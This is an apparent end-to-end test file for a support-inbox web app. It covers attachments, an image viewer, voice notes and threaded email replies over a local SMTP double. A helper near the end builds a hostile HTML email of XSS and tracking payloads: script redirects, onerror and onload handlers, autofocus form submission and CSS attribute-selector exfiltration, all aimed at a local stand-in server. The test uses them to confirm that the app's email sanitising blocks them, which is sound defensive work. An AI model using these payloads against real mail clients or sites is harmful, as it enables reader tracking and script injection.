import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type MailDouble, startMailDouble, writeMail } from '@inbox/mail-double'
import { waitFor } from '@inbox/testing'
import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { barriers } from '../barriers.ts'
import type { Person } from '../browser.ts'
import { acceptFromList, composer, goTo } from '../inbox-page.ts'
import { signIn, system } from '../system.ts'
import { createTeam, type Team } from '../team.ts'

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64'
)

/** Gives a file to what accepts files; with a text as well, like programs that copy a table. */
const gives = (event: 'paste' | 'drop', name: string, text?: string) => `{
  const data = new DataTransfer()
  data.items.add(new File(['1;2;3'], '${name}', { type: 'text/csv' }))
  if (${JSON.stringify(text ?? '')}) data.setData('text/plain', '${text}')
  const options = { bubbles: true, cancelable: true }
  const event = '${event}' === 'paste'
    ? new ClipboardEvent('paste', { ...options, clipboardData: data })
    : new DragEvent('drop', { ...options, dataTransfer: data })
  const at = '${event}' === 'paste' ? document.querySelector('[data-composer]') : document.body
  at.dispatchEvent(event)
}`

export function attaching(): void {
  let team: Team
  let pia: Person
  beforeAll(async () => {
    team = await createTeam({ mode: 'manual', agents: ['Pia'], channels: ['whatsapp', 'email'] })
    pia = await signIn(team.workers[0]!)
  })
  afterAll(() => pia?.[Symbol.asyncDispose]())

  test('files are attached with the button, by pasting and by dropping them anywhere, a picture opens on request, and a voice note is Opus in Ogg', async () => {
    await team.contact('whatsapp', 'Filo').writes('Send me pictures')
    const { page } = pia
    await goTo(page, 'queue')
    await acceptFromList(page, 'Filo')
    await page.locator('[data-composer]:enabled').waitFor()
    const messages = page.getByRole('region', { name: 'Messages' })
    const csv = { name: 'chosen.csv', mimeType: 'text/csv', buffer: Buffer.from('1;2;3') }
    await page
      .locator('input[type=file]')
      .setInputFiles([{ name: 'cat.png', mimeType: 'image/png', buffer: PIXEL }, csv])
    await messages.getByRole('link', { name: /^chosen\.csv/ }).waitFor()
    await page.evaluate(gives('paste', 'pasted.csv'))
    await messages.getByRole('link', { name: /^pasted\.csv/ }).waitFor()
    await page.evaluate(gives('paste', 'beside-a-text.csv', 'the text'))
    await page.evaluate(gives('drop', 'dropped.csv'))
    await messages.getByRole('link', { name: /^dropped\.csv/ }).waitFor()
    expect(await messages.getByRole('link', { name: /^beside/ }).count()).toBe(0)
    expect(page.url()).toMatch(/\/inbox\//)

    await messages.getByRole('button', { name: 'cat.png' }).press('Enter')
    const viewer = page.getByRole('dialog', { name: 'cat.png' })
    await viewer.getByRole('img', { name: 'cat.png' }).waitFor()
    expect(await barriers(page)).toEqual([])
    await page.keyboard.press('Escape')
    await viewer.waitFor({ state: 'detached' })
    await page
      .locator(':focus')
      .and(messages.getByRole('button', { name: 'cat.png' }))
      .waitFor()
    expect(await barriers(page)).toEqual([])

    await page.getByRole('button', { name: 'Record a voice note' }).click()
    await page.getByRole('timer').getByText('0:01').waitFor()
    await page.getByRole('button', { name: 'Send the voice note' }).click()
    const recorded = await messages.locator('audio').getAttribute('src')
    const { headers } = await fetch(new URL(recorded!, page.url()))
    expect(headers.get('content-type')).toBe('audio/ogg; codecs=opus')
  })
  test('an email arrives and is read folded, and in its layout, where it reaches nobody; its answer, with two files and bold words, reaches the SMTP server as one email in the thread', async () => {
    await using mail = await startMailDouble()
    await using elsewhere = await startElsewhere()
    const anna = await customerOf(mail, `They leak.${reaching(elsewhere.url)}`)
    const { page } = pia
    await goTo(page, 'queue')
    await acceptFromList(page, 'Anna Mail')
    await page.locator('[data-composer]:enabled').waitFor()
    const messages = page.getByRole('region', { name: 'Messages' })
    await messages.getByText('They leak.').waitFor()
    expect(await messages.getByText('Earlier words').count()).toBe(0)
    await messages.getByRole('button', { name: 'Show quoted text' }).click()
    await messages.getByText('Earlier words').waitFor()

    const file = (name: string) => ({ name, mimeType: 'text/csv', buffer: Buffer.from('1;2;3') })
    await page.locator('input[type=file]').setInputFiles([file('one.csv'), file('two.csv')])
    await composer(page).fill('Here is **the bill**.')
    await page.locator('button:enabled', { hasText: /^Send$/ }).click()
    await messages.getByRole('link', { name: /^two\.csv/ }).waitFor()
    await messages.locator('strong', { hasText: 'the bill' }).waitFor()
    expect(await barriers(page)).toEqual([])

    const received = await waitFor(() => anna.mails.find(({ isSent }) => !isSent), { timeoutMs: 30_000 })
    const raw = received.raw.toString()
    const sent = /^Message-ID: (.*)$/im.exec(anna.mails[0]!.raw.toString())![1]!.trim()
    expect(raw).toContain(`In-Reply-To: ${sent}`)
    expect(raw).toContain('<strong>the bill</strong>')
    for (const name of ['one.csv', 'two.csv']) expect(raw).toContain(`filename=${name}`)

    await messages.getByRole('button', { name: 'Show original' }).click()
    const frame = page.frameLocator('iframe')
    await frame.getByText('They leak.').waitFor()
    expect(await barriers(page)).toEqual([])
    expect(elsewhere.connections()).toBe(0)
    // through media, and only what is a picture
    await messages.getByRole('button', { name: 'Show images' }).click()
    await waitFor(() => elsewhere.connections() > 0)
    await frame.getByText('They leak.').waitFor()
    expect(elsewhere.asked).toEqual(['/pixel.gif'])
  })

  /** A customer who has written to the team's mailbox. */
  async function customerOf({ office, port }: MailDouble, html: string) {
    const address = 'team@azulejo.example'
    const smtp = { smtpHost: '127.0.0.1', smtpPort: port, smtpSecure: false }
    const key = await team.connect('email', { address, ...smtp })
    const inbound = `${system.urls['channel-adapters']}/v1/email/${team.channelId('email')}/inbound`
    const headers = { authorization: `Bearer ${key}`, 'content-type': 'message/rfc822' }
    office.addBusiness({
      ...{ address, name: 'Team' },
      async take(raw) {
        const { ok, status } = await fetch(inbound, { method: 'POST', headers, body: new Uint8Array(raw) })
        if (!ok) throw new Error(`answered ${status}`)
      }
    })
    const anna = office.customerAt('anna@customers.example', 'Anna Mail')
    const text = 'They leak.\n\nOn Mon, 2 Mar 2026 at 10:00, Team <team@azulejo.example> wrote:\n> Earlier words'
    const write = () => writeMail(office, anna, { to: address, subject: 'Boots', text, html })
    // retry until channel-adapters knows the key
    await waitFor(() => write().catch(() => undefined), { timeoutMs: 30_000 })
    return anna
  }
}

/** What mails contain in order to tell their senders who reads them, or more. */
const reaching = (url: string) => `
<link rel=preconnect href="${url}"><link rel=prefetch href="${url}/prefetch"><link rel=stylesheet href="${url}/style.css">
<meta http-equiv=refresh content="0;url=${url}/refresh"><style>@import url(${url}/import.css); p{background:url(${url}/background)}
@font-face{font-family:x;src:url(${url}/font)} input[value^=a]{background:url(${url}/exfiltrated)}</style>
<script>location='${url}/script'</script><p style="font-family:x">.</p><img src="${url}/pixel.gif"><img src=x onerror="location='${url}/error'">
<svg onload="location='${url}/load'"><image href="${url}/drawn"/></svg><form action="${url}/form"><input value=abc autofocus
onfocus="this.form.submit()"></form><iframe src="${url}/frame"></iframe><object data="${url}/object"></object><video poster="${url}/poster"
src="${url}/video" autoplay></video><picture><source srcset="${url}/source"></picture>`

/** A server of a mail's author. */
async function startElsewhere() {
  const asked: (string | undefined)[] = []
  let connections = 0
  const server = createServer(({ url }, response) => {
    asked.push(url)
    response.setHeader('content-type', 'image/gif').end()
  })
  server.on('connection', () => {
    connections += 1
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    connections: () => connections,
    async [Symbol.asyncDispose]() {
      server.close()
      server.closeAllConnections()
    }
  }
}
